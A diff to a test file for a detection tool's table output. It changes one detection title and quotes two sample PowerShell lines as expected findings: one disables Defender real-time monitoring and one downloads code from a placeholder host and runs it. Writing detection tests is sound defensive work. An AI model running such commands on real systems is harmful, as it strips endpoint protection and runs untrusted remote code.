@@ -136,7 +136,7 @@ describe('svc analyze --format table', () => {
   Host WS-FIN-07.corp.harrowpell.example
   SHA-256 ${createHash('sha256').update(readFileSync(powershell)).digest('hex')}
 
-  high    1  Protection Of Defender Switched Off By A Short Name        T1562.001  defense evasion                       2026-11-17 09:04:03
+  high    1  Protection Of Defender Switched Off By A Preference        T1562.001  defense evasion                       2026-11-17 09:04:03
              ScriptBlockText: Set-MpPreference -DisableRealtimeMonitoring $true
   high    1  Script Block Downloads And Runs Code                       T1059.001 T1105  execution, command and control  2026-11-17 08:52:48
              ScriptBlockText: IEX (New-Object Net.WebClient).DownloadString('http://cdn.freight-docs.example/inv/4471')
